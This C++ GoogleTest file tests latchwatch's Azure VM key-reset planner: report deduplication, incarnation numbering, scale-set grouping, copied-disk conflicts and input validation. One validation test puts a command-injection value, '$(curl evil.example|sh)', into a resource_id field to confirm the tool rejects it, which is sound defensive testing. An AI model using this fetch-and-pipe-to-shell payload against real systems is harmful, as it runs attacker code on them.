// The fleet reset plan from reports written by the real report code: dedupe, incarnations,
// scale-set order, copied disks, stale identities, skipped verdicts and malformed input.

#include "agent/plan/reset_plan.h"

#include <gtest/gtest.h>

#include <cctype>
#include <functional>

#include "agent/plan/json_cursor.h"
#include "reporting/report/verdict.h"

namespace latchwatch::plan {
namespace {

const std::string kSub = "6f1c2d3e-4a5b-4c6d-8e7f-0a1b2c3d4e5f";
const std::string kGroup =
    "/subscriptions/" + kSub + "/resourceGroups/rg-fleet/providers/Microsoft.Compute/";

std::string vm_id(const std::string& name) { return kGroup + "virtualMachines/" + name; }
std::string instance_id(const std::string& set, const std::string& n) {
  return kGroup + "virtualMachineScaleSets/" + set + "/virtualMachines/" + n;
}

/// A report document exactly as `check --json` writes it.
std::string report(const std::string& code, const std::string& resource_id,
                   const std::string& smbios = "d0a1b2c3-0000-4000-8000-000000000001",
                   const std::string& source = "imds",
                   const std::string& at = "2026-11-20T10:00:00Z",
                   std::optional<std::int64_t> incarnation = std::nullopt, double age_seconds = 0,
                   const std::string& scale_set = "") {
  latchwatch::Report r;
  r.generated_at = at;
  r.verdict.code = *latchwatch::verdict_from_string(code);
  r.verdict.severity = latchwatch::info(r.verdict.code).severity;
  r.identity.source = source;
  r.identity.age_seconds = age_seconds;
  r.identity.resource_id = resource_id;
  r.identity.smbios_uuid = smbios;
  r.identity.vm_id = smbios;
  r.identity.vm_scale_set_name = scale_set;
  if (latchwatch::info(r.verdict.code).needs_key_reset) {
    latchwatch::Remedy remedy;
    remedy.current_incarnation = incarnation;
    r.remedy = remedy;
  }
  return latchwatch::report_document(r).dump();
}

struct Fleet {
  std::vector<ReportRecord> records;
  std::vector<std::string> errors;
  void add(const std::string& file, const std::string& text) {
    auto more = read_report_records(file, text, errors);
    records.insert(records.end(), more.begin(), more.end());
  }
  ResetPlan plan(const ResetPlanOptions& options = {}) {
    return build_reset_plan(records, options);
  }
};

TEST(ResetPlan, NewestReportDecidesAndTheIncarnationIsTheLargestSeenPlusOne) {
  Fleet fleet;
  fleet.add("a1.json", report("key_lost", vm_id("vm-a"), {}, "imds", "2026-11-20T10:00:00Z", 7));
  fleet.add("a2.json", report("key_lost", vm_id("vm-a"), {}, "imds", "2026-11-21T10:00:00Z", 5));
  fleet.add("a3.json",
            report("key_mismatch", vm_id("vm-a"), {}, "imds", "2026-11-20T12:00:00.5Z", 6));
  auto plan = fleet.plan();
  ASSERT_TRUE(fleet.errors.empty()) << fleet.errors[0];
  ASSERT_EQ(plan.vms.size(), 1u);
  EXPECT_EQ(plan.vms[0].origin, "a2.json");
  EXPECT_EQ(plan.vms[0].verdict_code, "key_lost");
  EXPECT_EQ(plan.vms[0].superseded, 2);
  EXPECT_EQ(plan.vms[0].remedy.next_incarnation, 8);
  EXPECT_NE(plan.vms[0].remedy.az_command.find("\"keyIncarnationId\":8"), std::string::npos);
  EXPECT_FALSE(plan.needs_attention());
}

TEST(ResetPlan, ResourceIdsCompareCaseInsensitively) {
  Fleet fleet;
  std::string upper = vm_id("VM-B");
  fleet.add("b1.json", report("key_lost", vm_id("vm-b"), {}, "imds", "2026-11-20T10:00:00Z", 2));
  fleet.add("b2.json", report("key_lost", upper, {}, "imds", "2026-11-20T11:00:00Z", 1));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.vms.size(), 1u);
  EXPECT_EQ(plan.vms[0].remedy.next_incarnation, 3);
}

TEST(ResetPlan, ANewerHealthyReportSupersedesAnOlderKeyVerdict) {
  Fleet fleet;
  fleet.add("c1.json", report("key_lost", vm_id("vm-c"), {}, "imds", "2026-11-20T10:00:00Z", 2));
  fleet.add("c2.json", report("healthy", vm_id("vm-c"), {}, "imds", "2026-11-21T10:00:00Z"));
  auto plan = fleet.plan();
  EXPECT_EQ(plan.reset_count(), 0u);
  ASSERT_EQ(plan.skipped.size(), 1u);
  EXPECT_EQ(plan.skipped[0].verdict_code, "healthy");
  EXPECT_NE(plan.skipped[0].reason.find("supersedes an older key_lost"), std::string::npos);
}

TEST(ResetPlan, NonKeyVerdictsAreSkippedWithTheOwnersAction) {
  Fleet fleet;
  for (const char* code : {"imds_throttled", "wireserver_unreachable", "gpa_down", "reset_pending"})
    fleet.add(std::string(code) + ".json",
              report(code, vm_id(std::string("vm-") + code), {}, "imds", "2026-11-20T10:00:00Z"));
  auto plan = fleet.plan();
  EXPECT_EQ(plan.reset_count(), 0u);
  ASSERT_EQ(plan.skipped.size(), 4u);
  for (const auto& s : plan.skipped) {
    auto code = *latchwatch::verdict_from_string(s.verdict_code);
    EXPECT_NE(s.reason.find(latchwatch::info(code).owner_action), std::string::npos) << s.reason;
  }
}

TEST(ResetPlan, ScaleSetInstancesAreGroupedPerScaleSetInInstanceOrder) {
  Fleet fleet;
  for (const char* n : {"10", "2", "1"})
    fleet.add(std::string("pool-") + n + ".json",
              report("key_lost", instance_id("pool-a", n), {}, "imds", "2026-11-20T10:00:00Z", 3, 0,
                     "pool-a"));
  fleet.add("other.json", report("key_mismatch", instance_id("pool-b", "0"), {}, "imds",
                                 "2026-11-20T10:00:00Z", 1, 0, "pool-b"));
  fleet.add("vm.json", report("key_lost", vm_id("vm-d"), {}, "imds", "2026-11-20T10:00:00Z", 1));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.scale_sets.size(), 2u);
  EXPECT_EQ(plan.scale_sets[0].scale_set_id, kGroup + "virtualMachineScaleSets/pool-a");
  ASSERT_EQ(plan.scale_sets[0].instances.size(), 3u);
  EXPECT_EQ(plan.scale_sets[0].instances[0].instance_id, "1");
  EXPECT_EQ(plan.scale_sets[0].instances[1].instance_id, "2");
  EXPECT_EQ(plan.scale_sets[0].instances[2].instance_id, "10");
  EXPECT_NE(plan.scale_sets[0].instances[2].remedy.request.url.find("/virtualMachines/10?"),
            std::string::npos);
  EXPECT_EQ(plan.vms.size(), 1u);
  EXPECT_EQ(plan.reset_count(), 5u);
  EXPECT_NE(reset_plan_text(plan).find("no scale-set-wide reset"), std::string::npos);
}

TEST(ResetPlan, OneScaleSetWhoseIdsDifferInCaseIsOneGroup) {
  // ARM ids compare case-insensitively; IMDS and a boot log's expanded id may spell the group
  // differently, and the owner must still see one scale set, not two.
  Fleet fleet;
  std::string lower = instance_id("pool-c", "1");
  for (auto& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  fleet.add("c1.json", report("key_lost", lower, "d0a1b2c3-0000-4000-8000-0000000000c1", "imds",
                              "2026-11-20T10:00:00Z", 3, 0, "pool-c"));
  fleet.add("c2.json",
            report("key_lost", instance_id("pool-c", "2"), "d0a1b2c3-0000-4000-8000-0000000000c2",
                   "imds", "2026-11-20T10:00:00Z", 3, 0, "pool-c"));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.scale_sets.size(), 1u);
  ASSERT_EQ(plan.scale_sets[0].instances.size(), 2u);
  EXPECT_EQ(plan.scale_sets[0].instances[0].instance_id, "1");
  EXPECT_EQ(plan.scale_sets[0].instances[1].instance_id, "2");
}

TEST(ResetPlan, CopiedDiskWithAnImdsClaimGoesToTheCopyNotTheOriginal) {
  const std::string original = "aaaaaaaa-0000-4000-8000-000000000001";
  const std::string copy = "bbbbbbbb-0000-4000-8000-000000000002";
  Fleet fleet;
  fleet.add("orig.json",
            report("healthy", vm_id("vm-e"), original, "imds", "2026-11-20T10:00:00Z"));
  fleet.add("copy.json",
            report("key_mismatch", vm_id("vm-e"), copy, "cache", "2026-11-20T11:00:00Z", 9));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.conflicts.size(), 1u);
  EXPECT_TRUE(plan.conflicts[0].resolved);
  EXPECT_EQ(plan.conflicts[0].claims.size(), 2u);
  EXPECT_TRUE(plan.vms.empty()) << "the original is healthy; resetting it would not help the copy";
  ASSERT_EQ(plan.unidentified.size(), 1u);
  const auto& u = plan.unidentified[0];
  EXPECT_EQ(u.claimed_resource_id, vm_id("vm-e"));
  EXPECT_EQ(u.vm_id, copy);
  EXPECT_NE(u.remedy.find_vm_command.find(copy), std::string::npos);
  EXPECT_NE(u.remedy.az_command.find("{resourceId}"), std::string::npos);
  EXPECT_TRUE(plan.needs_attention());
}

TEST(ResetPlan, CopiedDiskWithoutAnImdsClaimIsAConflictForAPerson) {
  Fleet fleet;
  fleet.add("x.json", report("key_mismatch", vm_id("vm-f"), "aaaaaaaa-0000-4000-8000-000000000001",
                             "cache", "2026-11-20T10:00:00Z", 1));
  fleet.add("y.json", report("key_mismatch", vm_id("vm-f"), "bbbbbbbb-0000-4000-8000-000000000002",
                             "cache", "2026-11-20T11:00:00Z", 1));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.conflicts.size(), 1u);
  EXPECT_FALSE(plan.conflicts[0].resolved);
  EXPECT_EQ(plan.reset_count(), 0u);
  EXPECT_TRUE(plan.needs_attention());
  EXPECT_NE(reset_plan_text(plan).find("NEEDS A PERSON"), std::string::npos);
}

TEST(ResetPlan, AStaleCachedIdentityIsFlagged) {
  Fleet fleet;
  fleet.add("old.json", report("key_lost", vm_id("vm-g"), {}, "cache", "2026-11-20T10:00:00Z", 1,
                               10 * 86400.0));
  fleet.add("fresh.json",
            report("key_lost", vm_id("vm-h"), {}, "cache", "2026-11-20T10:00:00Z", 1, 3600.0));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.vms.size(), 2u);
  ASSERT_EQ(plan.vms[0].flags.size(), 1u);
  EXPECT_NE(plan.vms[0].flags[0].find("stale identity"), std::string::npos);
  EXPECT_NE(plan.vms[0].flags[0].find("10 days"), std::string::npos);
  EXPECT_TRUE(plan.vms[1].flags.empty());
}

TEST(ResetPlan, ReportsWithoutAResourceAreDedupedByHardwareAndNeedFinding) {
  const std::string smbios = "cccccccc-0000-4000-8000-000000000003";
  Fleet fleet;
  fleet.add("u1.json", report("key_lost", {}, smbios, "unknown", "2026-11-20T10:00:00Z"));
  fleet.add("u2.json", report("key_lost", {}, smbios, "unknown", "2026-11-20T12:00:00Z"));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.unidentified.size(), 1u);
  EXPECT_EQ(plan.unidentified[0].origin, "u2.json");
  EXPECT_NE(plan.unidentified[0].remedy.find_vm_command.find(smbios), std::string::npos);
  EXPECT_NE(plan.unidentified[0].remedy.az_command.find("cur=$(az rest --method get"),
            std::string::npos)
      << "N is computed from the model when no report saw it";
}

TEST(ResetPlan, LatentKeyLossIsAPlannedReset) {
  Fleet fleet;
  fleet.add("l.json",
            report("key_loss_latent", vm_id("vm-i"), {}, "imds", "2026-11-20T10:00:00Z", 4));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.vms.size(), 1u);
  EXPECT_TRUE(plan.vms[0].remedy.planned);
}

TEST(ResetPlan, AnIncarnationAtTheInt32LimitNeedsAPerson) {
  // No command can raise 2147483647: the plan must not exit 0 ("nothing but running").
  Fleet fleet;
  fleet.add("limit.json",
            report("key_lost", vm_id("vm-limit"), {}, "imds", "2026-11-20T10:00:00Z", 2147483647));
  auto plan = fleet.plan();
  ASSERT_EQ(plan.vms.size(), 1u);
  EXPECT_TRUE(plan.vms[0].remedy.az_command.empty());
  EXPECT_FALSE(plan.vms[0].remedy.blocked.empty());
  EXPECT_TRUE(plan.needs_attention());

  Fleet below;
  below.add("below.json", report("key_lost", instance_id("pool-l", "4"), {}, "imds",
                                 "2026-11-20T10:00:00Z", 2147483646, 0, "pool-l"));
  auto fine = below.plan();
  ASSERT_EQ(fine.scale_sets.size(), 1u);
  EXPECT_EQ(fine.scale_sets[0].instances[0].remedy.next_incarnation, 2147483647);
  EXPECT_FALSE(fine.needs_attention());
}

TEST(ResetPlan, AnIdThatNamesNoVmIsAMachineToIdentifyNotAReset) {
  // A storage account's id (or the scale set's own) passes the character classes but names
  // nothing whose key can be reset: it was planned as a VM with a {resourceId} command, exit 0.
  Fleet fleet;
  fleet.add("storage.json",
            report("key_lost",
                   "/subscriptions/" + kSub +
                       "/resourceGroups/rg-fleet/providers/Microsoft.Storage/storageAccounts/sa1",
                   "d0a1b2c3-0000-4000-8000-0000000000e1", "imds", "2026-11-20T10:00:00Z", 4));
  fleet.add("set.json",
            report("key_lost", kGroup + "virtualMachineScaleSets/pool-x",
                   "d0a1b2c3-0000-4000-8000-0000000000e2", "imds", "2026-11-20T10:00:00Z", 4));
  auto plan = fleet.plan();
  EXPECT_TRUE(plan.vms.empty());
  EXPECT_TRUE(plan.scale_sets.empty());
  EXPECT_EQ(plan.unidentified.size(), 2u);
  EXPECT_TRUE(plan.needs_attention());
}

TEST(ResetPlanInput, ArraysAndJsonLinesAreRead) {
  Fleet fleet;
  fleet.add("fleet.json",
            "[" + report("key_lost", vm_id("vm-j")) + "," + report("healthy", vm_id("vm-k")) + "]");
  fleet.add("history.jsonl",
            report("key_lost", vm_id("vm-l")) + "\n\n{not json\n" +
                report("healthy", vm_id("vm-l"), {}, "imds", "2026-11-22T00:00:00Z") + "\n");
  EXPECT_EQ(fleet.records.size(), 4u);
  ASSERT_EQ(fleet.errors.size(), 1u);
  EXPECT_EQ(fleet.errors[0].rfind("history.jsonl:3: not JSON", 0), 0u) << fleet.errors[0];
  EXPECT_EQ(fleet.records[0].origin, "fleet.json[0]");
  EXPECT_EQ(fleet.records[3].origin, "history.jsonl:4");
}

TEST(ResetPlanInput, BadRecordsAreRejectedWithFileAndField) {
  Fleet fleet;
  auto doc = nlohmann::json::parse(report("key_lost", vm_id("vm-m")));
  auto with = [&](const std::function<void(nlohmann::json&)>& change) {
    auto copy = doc;
    change(copy);
    return copy.dump();
  };
  fleet.add("missing.json", with([](nlohmann::json& j) { j["verdict"].erase("code"); }));
  fleet.add("type.json", with([](nlohmann::json& j) { j["identity"]["name"] = 42; }));
  fleet.add("inject.json", with([](nlohmann::json& j) {
              j["identity"]["resource_id"] = "/subscriptions/x/$(curl evil.example|sh)";
            }));
  fleet.add("time.json", with([](nlohmann::json& j) { j["generated_at"] = "yesterday"; }));
  fleet.add("verdict.json", with([](nlohmann::json& j) { j["verdict"]["code"] = "key_gone"; }));
  fleet.add("empty.json", "");
  fleet.add("scalar.json", "42");
  EXPECT_TRUE(fleet.records.empty());
  std::vector<std::string> expected = {
      "missing.json: verdict.code: missing",
      "type.json: identity.name: expected a string, found a number",
      "inject.json: identity.resource_id: not an Azure resource id",
      "time.json: generated_at: not an ISO 8601 UTC time",
      "verdict.json: verdict.code: unknown verdict 'key_gone'",
      "empty.json: not JSON and not JSON lines",
      "scalar.json: expected a latchwatch report object, found a number"};
  ASSERT_EQ(fleet.errors.size(), expected.size());
  for (std::size_t i = 0; i < expected.size(); ++i)
    EXPECT_EQ(fleet.errors[i].rfind(expected[i], 0), 0u) << fleet.errors[i];
}

TEST(ResetPlanInput, AnIdentityAgeOutsideAnyRealCacheIsAnInputError) {
  // 1e300 seconds once printed "a cache -9223372036854775808 days old" (a double cast to an
  // integer it does not fit). A negative age (the clock ran ahead when the cache was written)
  // is read as a new cache, as the serial line reads it.
  Fleet fleet;
  auto doc = nlohmann::json::parse(
      report("key_lost", vm_id("vm-age"), {}, "cache", "2026-11-20T10:00:00Z", 3, 60));
  auto copy = doc;
  copy["identity"]["age_seconds"] = 1e300;
  fleet.add("age.json", copy.dump());
  EXPECT_TRUE(fleet.records.empty());
  ASSERT_EQ(fleet.errors.size(), 1u);
  EXPECT_EQ(fleet.errors[0].rfind("age.json: identity.age_seconds: ", 0), 0u) << fleet.errors[0];
  copy["identity"]["age_seconds"] = -5.0;
  fleet.add("ahead.json", copy.dump());
  ASSERT_EQ(fleet.records.size(), 1u);
  EXPECT_EQ(fleet.records[0].identity.age_seconds, 0.0);
}

TEST(ResetPlanInput, Iso8601TimesOrderByInstantNotByText) {
  EXPECT_LT(*parse_iso8601_utc_ms("2026-11-20T10:00:00Z"),
            *parse_iso8601_utc_ms("2026-11-20T10:00:00.123Z"));
  EXPECT_EQ(*parse_iso8601_utc_ms("1970-01-01T00:00:01Z"), 1000);
  EXPECT_EQ(*parse_iso8601_utc_ms("2026-11-20T10:00:00+00:00"),
            *parse_iso8601_utc_ms("2026-11-20T10:00:00Z"));
  EXPECT_FALSE(parse_iso8601_utc_ms("2026-13-20T10:00:00Z"));
  EXPECT_FALSE(parse_iso8601_utc_ms("2026-11-20T10:00:00+02:00"));
}

TEST(ResetPlanDocument, JsonPlanCarriesEverySection) {
  Fleet fleet;
  fleet.add("a.json", report("key_lost", vm_id("vm-n"), {}, "imds", "2026-11-20T10:00:00Z", 2));
  fleet.add("b.json", report("gpa_down", vm_id("vm-o")));
  auto doc = reset_plan_document(fleet.plan());
  EXPECT_EQ(doc["kind"], "latchwatch_reset_plan");
  EXPECT_EQ(doc["summary"]["resets"], 1);
  EXPECT_EQ(doc["vms"][0]["remedy"]["next_incarnation"], 3);
  EXPECT_EQ(doc["skipped"][0]["verdict"], "gpa_down");
  for (const char* key : {"scale_sets", "unidentified", "conflicts", "input_errors"})
    EXPECT_TRUE(doc[key].is_array()) << key;
}

}  // namespace
}  // namespace latchwatch::plan
